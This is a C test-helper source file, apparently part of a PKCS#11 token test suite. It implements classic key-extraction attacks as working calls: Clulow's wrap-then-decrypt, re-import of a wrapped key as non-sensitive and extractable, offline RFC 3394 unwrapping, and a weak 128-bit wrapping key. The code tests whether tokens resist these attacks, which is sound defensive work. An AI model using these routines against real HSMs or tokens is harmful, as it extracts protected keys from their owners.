/* SPDX-License-Identifier: MIT */
/* p11attack.c - TEST-ONLY: the attacker's side of the classic PKCS#11
 * key-extraction attacks, as raw calls in the attacker's own logged-in
 * session of a p11test token, and keys made the way other tools make
 * them. Compiled into the test program that uses it (see p11attack.h). */
#include "p11attack.h"

#include <string.h>

#include <openssl/evp.h>

/* The attacker's own key value and a careful user's victim value. */
static const uint8_t p11attack_value[32] = { 0xa7, 0x7a, 0xc4, 0x3e, 1, 2, 3 };
const uint8_t p11attack_user_value[32] = { 0x5e, 0xc2, 0xe7, 0x11, 9, 8, 7 };
static const uint8_t p11attack_iv[16] = { 0 };
static const CK_BBOOL yes = CK_TRUE, no = CK_FALSE;

/* C_CreateObject of an AES key holding the 32 bytes of value, with the
 * attributes extra (n of them); CK_INVALID_HANDLE on failure. */
static CK_OBJECT_HANDLE p11attack_create(struct p11test_token *tok,
					 const uint8_t *value,
					 const CK_ATTRIBUTE *extra, CK_ULONG n)
{
	static const CK_OBJECT_CLASS cls = CKO_SECRET_KEY;
	static const CK_KEY_TYPE type = CKK_AES;
	CK_OBJECT_HANDLE h = CK_INVALID_HANDLE;
	CK_ATTRIBUTE t[16] = {
		{ CKA_CLASS, p11_unconst(&cls), sizeof(cls) },
		{ CKA_KEY_TYPE, p11_unconst(&type), sizeof(type) },
		{ CKA_VALUE, p11_unconst(value), 32 },
	};

	memcpy(t + 3, extra, n * sizeof(*extra));
	if (tok->fn->C_CreateObject(tok->sh, t, 3 + n, &h) != CKR_OK)
		return CK_INVALID_HANDLE;
	return h;
}

/* An AES-256 session key whose value the attacker chose, every usage
 * flag on: the ideal Clulow wrapping key (extractable: also a target). */
CK_OBJECT_HANDLE p11attack_key(struct p11test_token *tok, bool extractable)
{
	const CK_ATTRIBUTE t[] = {
		{ CKA_TOKEN, p11_unconst(&no), 1 },
		{ CKA_ENCRYPT, p11_unconst(&yes), 1 },
		{ CKA_DECRYPT, p11_unconst(&yes), 1 },
		{ CKA_WRAP, p11_unconst(&yes), 1 },
		{ CKA_UNWRAP, p11_unconst(&yes), 1 },
		{ CKA_EXTRACTABLE, p11_unconst(extractable ? &yes : &no), 1 },
	};

	return p11attack_create(tok, p11attack_value, t, 6);
}

/* C_WrapKey victim under kek with mech (CBC-type mechanisms get a zero
 * IV). *len in: capacity of out. */
CK_RV p11attack_wrap(struct p11test_token *tok, CK_MECHANISM_TYPE m,
		     CK_OBJECT_HANDLE kek, CK_OBJECT_HANDLE victim,
		     uint8_t *out, CK_ULONG *len)
{
	CK_MECHANISM mech = { m, NULL, 0 };

	if (m == CKM_AES_CBC_PAD || m == CKM_AES_CBC) {
		mech.pParameter = p11_unconst(p11attack_iv);
		mech.ulParameterLen = sizeof(p11attack_iv);
	}
	return tok->fn->C_WrapKey(tok->sh, &mech, kek, victim, out, len);
}

/* Clulow 2003: wrap under a key that may also decrypt, then decrypt the
 * blob in the token. CKR_OK means out holds the victim's value. */
CK_RV p11attack_wrap_then_decrypt(struct p11test_token *tok,
				  CK_OBJECT_HANDLE kek, CK_OBJECT_HANDLE victim,
				  uint8_t *out, CK_ULONG *len)
{
	CK_MECHANISM cbc = { CKM_AES_CBC, p11_unconst(p11attack_iv),
			     sizeof(p11attack_iv) };
	uint8_t blob[256];
	CK_ULONG n = sizeof(blob);
	CK_RV rv;

	/* SoftHSM 2.6.1 wraps with CBC, not CBC-PAD; AES keys need no pad. */
	rv = p11attack_wrap(tok, CKM_AES_CBC, kek, victim, blob, &n);
	if (rv == CKR_OK)
		rv = tok->fn->C_DecryptInit(tok->sh, &cbc, kek);
	if (rv == CKR_OK)
		rv = tok->fn->C_Decrypt(tok->sh, blob, n, out, len);
	return rv;
}

/* Re-import: wrap under kek, unwrap as non-sensitive and extractable,
 * read CKA_VALUE. CKR_OK means out holds the victim's value. */
CK_RV p11attack_reimport(struct p11test_token *tok, CK_OBJECT_HANDLE kek,
			 CK_OBJECT_HANDLE victim, uint8_t *out,
			 CK_ULONG *len)
{
	CK_MECHANISM kw = { CKM_AES_KEY_WRAP, NULL, 0 };
	CK_OBJECT_CLASS cls = CKO_SECRET_KEY;
	CK_KEY_TYPE type = CKK_AES;
	CK_ATTRIBUTE t[] = {
		{ CKA_CLASS, &cls, sizeof(cls) },
		{ CKA_KEY_TYPE, &type, sizeof(type) },
		{ CKA_TOKEN, p11_unconst(&no), 1 },
		{ CKA_SENSITIVE, p11_unconst(&no), 1 },
		{ CKA_EXTRACTABLE, p11_unconst(&yes), 1 },
	};
	CK_ATTRIBUTE v = { CKA_VALUE, out, *len };
	CK_OBJECT_HANDLE copy = CK_INVALID_HANDLE;
	uint8_t blob[256];
	CK_ULONG n = sizeof(blob);
	CK_RV rv;

	rv = p11attack_wrap(tok, CKM_AES_KEY_WRAP, kek, victim, blob, &n);
	if (rv == CKR_OK)
		rv = tok->fn->C_UnwrapKey(tok->sh, &kw, kek, blob, n, t, 5,
					  &copy);
	if (rv == CKR_OK)
		rv = tok->fn->C_GetAttributeValue(tok->sh, copy, &v, 1);
	if (copy != CK_INVALID_HANDLE)
		tok->fn->C_DestroyObject(tok->sh, copy);
	*len = v.ulValueLen;
	return rv;
}

CK_RV p11attack_read_value(struct p11test_token *tok, CK_OBJECT_HANDLE h)
{
	uint8_t buf[128];
	CK_ATTRIBUTE a = { CKA_VALUE, buf, sizeof(buf) };

	return tok->fn->C_GetAttributeValue(tok->sh, h, &a, 1);
}

bool p11attack_refused(CK_RV rv)
{
	return rv == CKR_ATTRIBUTE_READ_ONLY || rv == CKR_ACTION_PROHIBITED;
}

CK_RV p11attack_set_bool(struct p11test_token *tok, CK_OBJECT_HANDLE h,
			 CK_ATTRIBUTE_TYPE t, bool v)
{
	CK_ATTRIBUTE a = { t, p11_unconst(v ? &yes : &no), 1 };

	return tok->fn->C_SetAttributeValue(tok->sh, h, &a, 1);
}

/* RFC 3394 unwrap with the attacker's key, outside the token. */
bool p11attack_offline_unwrap(const uint8_t *blob, CK_ULONG n,
			      uint8_t *out, int *len)
{
	EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new();
	int a = 0, b = 0;
	bool ok;

	EVP_CIPHER_CTX_set_flags(c, EVP_CIPHER_CTX_FLAG_WRAP_ALLOW);
	ok = c &&
	     EVP_DecryptInit_ex(c, EVP_aes_256_wrap(), NULL, p11attack_value,
				NULL) == 1 &&
	     EVP_DecryptUpdate(c, out, &a, blob, (int)n) == 1 &&
	     EVP_DecryptFinal_ex(c, out + a, &b) == 1;
	EVP_CIPHER_CTX_free(c);
	*len = a + b;
	return ok;
}

/* C_EncryptInit/C_DecryptInit, and when it starts, one block to end
 * the operation. */
CK_RV p11attack_use(struct p11test_token *tok, CK_OBJECT_HANDLE h,
		    CK_MECHANISM *m, bool decrypt)
{
	uint8_t in[16] = { 0 }, out[64];
	CK_ULONG n = sizeof(out);
	CK_RV rv;

	rv = decrypt ? tok->fn->C_DecryptInit(tok->sh, m, h)
		     : tok->fn->C_EncryptInit(tok->sh, m, h);
	if (rv == CKR_OK)
		rv = decrypt ? tok->fn->C_Decrypt(tok->sh, in, 16, out, &n)
			     : tok->fn->C_Encrypt(tok->sh, in, 16, out, &n);
	return rv;
}

/* A token AES key of len bytes labelled label, generated with extra
 * (n attributes) and the token's defaults for the rest. */
static CK_OBJECT_HANDLE p11attack_generate(struct p11test_token *tok,
					   CK_ULONG len, const char *label,
					   const CK_ATTRIBUTE *extra,
					   CK_ULONG n)
{
	CK_MECHANISM gen = { CKM_AES_KEY_GEN, NULL, 0 };
	CK_OBJECT_HANDLE h = CK_INVALID_HANDLE;
	CK_ATTRIBUTE t[16] = {
		{ CKA_VALUE_LEN, &len, sizeof(len) },
		{ CKA_TOKEN, p11_unconst(&yes), 1 },
		{ CKA_LABEL, p11_unconst(label), strlen(label) },
	};

	if (n)
		memcpy(t + 3, extra, n * sizeof(*extra));
	if (tok->fn->C_GenerateKey(tok->sh, &gen, t, 3 + n, &h) != CKR_OK)
		return CK_INVALID_HANDLE;
	return h;
}

/* What `pkcs11-tool --keygen --key-type AES:32` sends: length, token,
 * label; every other attribute is the token's default. */
CK_OBJECT_HANDLE p11attack_tool_default_key(struct p11test_token *tok)
{
	return p11attack_generate(tok, 32, "tool-default", NULL, 0);
}

/* A careful user's key that still may be exported: sensitive,
 * extractable, but without CKA_WRAP_WITH_TRUSTED; value known. */
CK_OBJECT_HANDLE p11attack_user_key(struct p11test_token *tok)
{
	const CK_ATTRIBUTE t[] = {
		{ CKA_TOKEN, p11_unconst(&yes), 1 },
		{ CKA_SENSITIVE, p11_unconst(&yes), 1 },
		{ CKA_EXTRACTABLE, p11_unconst(&yes), 1 },
		{ CKA_LABEL, p11_unconst("user-exportable"), 15 },
	};

	return p11attack_create(tok, p11attack_user_value, t, 4);
}

/* An AES-128 key that only wraps and is otherwise locked down: its one
 * weakness is its size next to AES-256 keys it can wrap. */
CK_OBJECT_HANDLE p11attack_kek128(struct p11test_token *tok)
{
	static const CK_ATTRIBUTE_TYPE off[] = { CKA_EXTRACTABLE, CKA_UNWRAP,
		CKA_ENCRYPT, CKA_DECRYPT, CKA_SIGN, CKA_VERIFY, CKA_DERIVE,
		CKA_MODIFIABLE };
	CK_ATTRIBUTE t[10] = {
		{ CKA_SENSITIVE, p11_unconst(&yes), 1 },
		{ CKA_WRAP, p11_unconst(&yes), 1 },
	};

	for (size_t i = 0; i < 8; i++)
		t[2 + i] = (CK_ATTRIBUTE){ off[i], p11_unconst(&no), 1 };
	return p11attack_generate(tok, 16, "kek128", t, 10);
}
